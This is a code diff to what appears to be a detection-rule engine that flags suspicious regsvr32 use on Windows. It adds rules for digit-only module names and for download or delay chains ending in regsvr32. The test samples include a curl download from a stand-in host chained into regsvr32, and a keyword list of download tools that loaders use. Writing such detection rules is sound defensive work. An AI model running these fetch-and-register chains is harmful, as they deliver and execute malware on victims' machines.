@@ -272,10 +272,10 @@ def user_writable(inv):
         "regsvr32 /s C:\\ProgramData\\x.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',))
 def writable_non_module(inv):
-    if ("module location", winpath.USER_WRITABLE) not in inv.first:
-        return None
+    # a per-user application folder holds all kinds of files: there, only a disguise counts
     for m in inv.modules:
-        if m.location == winpath.USER_WRITABLE and m.ext_class != winpath.MODULE:
+        if m.location == winpath.USER_WRITABLE and m.ext_class != winpath.MODULE and (
+                winpath.is_staging(m) or m.ext_class == winpath.DISGUISED):
             ext = ("." + m.ext) if m.ext else "no"
             return "module %s in %s has %s extension, not .dll/.ocx/.ax/.cpl" % (
                 _clip(m.path), m.where, ext)
@@ -1079,7 +1079,7 @@ def proxy_launch(ev):
 
 
 @rule("R32-047", "/n /i: hands a code word to a module outside Windows and Program Files",
-      COMMAND_LINE, risk=45, family="implicit_dllregisterserver_and_odd_invocations",
+      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
       evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "Fibratus"),
       description=("/n /i:<text> calls only the module's DllInstall with a string that is neither a "
                    "path nor a URL, on a module outside Windows and Program Files: loaders take their "
@@ -1153,6 +1153,66 @@ def fake_microsoft_folder(inv):
                 and c[6] not in PROFILE_MICROSOFT_FOLDERS):
             return "module %s is in AppData\\%s\\Microsoft\\%s, a folder no Microsoft software makes" % (
                 _clip(m.path), c[4].title(), c[6])
+    return None
+
+
+_DIGITS_ONLY = re.compile(r"^[0-9][0-9_.\-]*$")
+
+
+@rule("R32-050", "Module named with digits only",
+      COMMAND_LINE, risk=50, family="suspicious_paths_and_disguised_extensions", evidence="format",
+      techniques=(T, "T1036"), sources=("L11",),
+      description=("The module's file name, before its extension, is only digits (and dots, dashes or "
+                   "underscores): 1.dll, 44621.7848322917.dll, 163520.png. Loaders name payloads by "
+                   "number or date serial; COM servers that software registers have words for names."),
+      positives=(
+        'regsvr32.exe -s "C:\\Users\\bob\\AppData\\Local\\Temp\\44621.7848322917.dll"',
+        "regsvr32.exe 102755.dll",),
+      negatives=(
+        "regsvr32 /s 7z.dll",
+        'regsvr32 /s "C:\\Program Files\\1cv8\\8.3.22.1709\\bin\\comcntr.dll"',))
+def digits_only(inv):
+    for m in inv.modules:
+        stem = m.name[:-len(m.ext) - 1] if m.ext else m.name
+        if stem and _DIGITS_ONLY.match(stem):
+            return "module %s is named with digits only" % _clip(m.path)
+    return None
+
+
+# What a launcher's command line does before it runs regsvr32 in the same line: fetch the payload,
+# or wait (ping a host, timeout) so that sandboxes give up.
+_CHAIN_STEPS = (("curl", "downloads with curl"), ("wget", "downloads with wget"),
+                ("urlcache", "downloads with certutil -urlcache"),
+                ("bitsadmin", "downloads with bitsadmin"), ("start-bitstransfer", "downloads with BITS"),
+                ("invoke-webrequest", "downloads with Invoke-WebRequest"),
+                ("downloadfile", "downloads with WebClient.DownloadFile"),
+                ("ping ", "waits with ping"), ("timeout ", "waits with timeout"))
+
+
+@rule("R32-051", "regsvr32 at the end of a download or delay chain",
+      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
+      techniques=(T, "T1105", "T1497.003"), sources=("L14", "LOLBAS"),
+      description=("The parent's command line fetches a file (curl, wget, certutil -urlcache, "
+                   "bitsadmin, Invoke-WebRequest, DownloadFile) or waits (ping, timeout) and then runs "
+                   "regsvr32 in the same line: the LNK and script chains of Qakbot, Pikabot and IcedID. "
+                   "Installers download and register in separate steps."),
+      positives=(
+        {"CommandLine": "regsvr32 -n -i .asu.mid", "ParentCommandLine": "cmd.exe /c ping google.com && regsvr32 -n -i .asu.mid"},
+        {"CommandLine": "regsvr32 C:\\ProgramData\\x.ocx",
+         "ParentCommandLine": "cmd /c curl -o C:\\ProgramData\\x.ocx https://example.com/a && regsvr32 C:\\ProgramData\\x.ocx"},),
+      negatives=(
+        {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "cmd.exe /c register.bat"},
+        {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},))
+def download_chain(ev):
+    low = ev.parent_command_line.lower()
+    at = low.find("regsvr32")
+    if at < 0:
+        return None
+    before = low[:at]
+    for word, what in _CHAIN_STEPS:
+        if word in before and ("&" in before or ";" in before or "|" in before):
+            return "the parent's command line %s, then runs regsvr32: %s" % (
+                what, _clip(ev.parent_command_line, 200))
     return None
 
 
